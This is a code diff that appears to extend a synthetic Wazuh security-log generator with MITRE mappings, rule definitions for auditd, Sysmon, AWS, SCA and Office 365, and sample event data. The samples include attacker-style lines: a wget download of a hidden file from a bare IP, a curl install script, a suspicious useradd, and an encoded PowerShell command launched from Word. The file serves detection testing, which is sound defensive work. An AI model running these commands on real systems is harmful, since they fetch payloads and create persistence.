@@ -29,6 +29,8 @@ MITRE: dict[str, tuple[str, tuple[str, ...]]] = {
     "T1562.001": ("Disable or Modify Tools", ("Defense Evasion",)),
     "T1529": ("System Shutdown/Reboot", ("Impact",)),
     "T1040": ("Network Sniffing", ("Credential Access", "Discovery")),
+    "T1059.001": ("PowerShell", ("Execution",)),
+    "T1046": ("Network Service Discovery", ("Discovery",)),
 }
 
 # --- compliance tag sets, as Wazuh attaches them per rule family ------------------------------------
@@ -298,6 +300,103 @@ RULES: dict[str, Rule] = {
         ),
     ]
 }
+
+# Linux audit, Sysmon, AWS, SCA and Office 365: the decoder families an analyst meets beyond syslog.
+# Descriptions carry Wazuh's $(field) interpolation already applied where the real rule has one.
+AUDIT: Compliance = {"gdpr": ("IV_30.1.g",)}
+SCA_CHECK: Compliance = {}
+CLOUD: Compliance = {"pci_dss": ("10.6.1",), "gdpr": ("IV_35.7.d",), "tsc": ("CC7.2",)}
+FAMILY_RULES: dict[str, Rule] = {
+    r.id: r
+    for r in [
+        _r("80792", 3, "Audit: Command: $(audit.exe).", "audit,audit_command", "", AUDIT),  # 0365-auditd_rules.xml
+        _r("61603", 3, "Sysmon - Event 1: Process creation $(win.eventdata.description)", "sysmon,sysmon_event1", ""),
+        _r("92052", 12, "Windows command prompt started by an abnormal process", "windows,sysmon", "T1059.001"),
+        _r("80302", 6, "AWS GuardDuty: $(aws.service.action.actionType) - $(aws.title)", "amazon,aws,aws_guardduty"),
+        _r(
+            "80305",
+            3,
+            "AWS GuardDuty: PORT_PROBE - $(aws.title) [IP: $(aws.service.action.portProbeAction.portProbeDetails."
+            "remoteIpDetails.ipAddressV4)] [Port: $(aws.service.action.portProbeAction.portProbeDetails."
+            "localPortDetails.port)]",
+            "amazon,aws,aws_guardduty",
+            "T1046",
+            CLOUD,
+        ),
+        _r("80202", 3, "AWS Cloudtrail: $(aws.eventSource) - $(aws.eventName).", "amazon,aws,aws_cloudtrail", ""),
+        _r(
+            "80254",
+            5,
+            "AWS Cloudtrail: $(aws.eventSource) - $(aws.eventName) - Failed login.",
+            "amazon,aws,aws_cloudtrail,authentication_failed",
+            "T1110",
+            CLOUD,
+        ),
+        _r("19007", 7, "$(sca.policy): $(sca.check.title)", "sca", "", SCA_CHECK),  # result failed
+        _r("19008", 3, "$(sca.policy): $(sca.check.title)", "sca", "", SCA_CHECK),  # result passed
+        _r("91545", 3, "Office 365: $(office365.Operation) by $(office365.UserId).", "office365", "", CLOUD),
+        _r(
+            "91558",
+            5,
+            "Office 365: Failed login of $(office365.UserId).",
+            "office365,authentication_failed",
+            "T1110",
+            CLOUD,
+        ),
+    ]
+}
+RULES.update(FAMILY_RULES)
+
+AUDIT_COMMANDS = (  # (exe, argv) as auditd's EXECVE record has them
+    ("/usr/bin/curl", ("curl", "-fsSL", "https://get.example.net/install.sh")),
+    ("/usr/bin/wget", ("wget", "-q", "-O", "/tmp/.x", "http://203.0.113.77/a")),
+    ("/usr/bin/id", ("id",)),
+    ("/usr/bin/whoami", ("whoami",)),
+    ("/usr/sbin/useradd", ("useradd", "-m", "backup2")),
+    ("/usr/bin/crontab", ("crontab", "-l")),
+    ("/usr/bin/systemctl", ("systemctl", "restart", "nginx")),
+)
+SYSMON_PROCESSES = (  # (image, command line, parent image, description)
+    (
+        "C:\\Windows\\System32\\cmd.exe",
+        "cmd.exe /c whoami /all",
+        "C:\\Windows\\explorer.exe",
+        "Windows Command Processor",
+    ),
+    (
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA",
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+        "Windows PowerShell",
+    ),
+    (
+        "C:\\Windows\\System32\\svchost.exe",
+        "svchost.exe -k netsvcs -p",
+        "C:\\Windows\\System32\\services.exe",
+        "Host Process for Windows Services",
+    ),
+    (
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        "chrome.exe --type=renderer",
+        "C:\\Windows\\explorer.exe",
+        "Google Chrome",
+    ),
+)
+SCA_CHECKS = (  # (check id, title, command, result)
+    ("28500", "Ensure mounting of cramfs filesystems is disabled.", "modprobe -n -v cramfs", "failed"),
+    ("28512", "Ensure /tmp is a separate partition.", "findmnt -n /tmp", "failed"),
+    ("28560", "Ensure SSH root login is disabled.", "sshd -T", "passed"),
+    ("28565", "Ensure SSH MaxAuthTries is set to 4 or less.", "sshd -T", "failed"),
+    ("28590", "Ensure auditd service is enabled.", "systemctl is-enabled auditd", "passed"),
+)
+AWS_ACCOUNT = "150447125201"
+AWS_REGIONS = ("us-east-1", "eu-central-1", "eu-west-1")
+OFFICE_USERS = (
+    "jdoe@corp.example.com",
+    "asmith@corp.example.com",
+    "kchen@corp.example.com",
+    "amartin@corp.example.com",
+)
 
 VULN_RULE_BY_SEVERITY = {"Low": "23503", "Medium": "23504", "High": "23505", "Critical": "23506"}
 
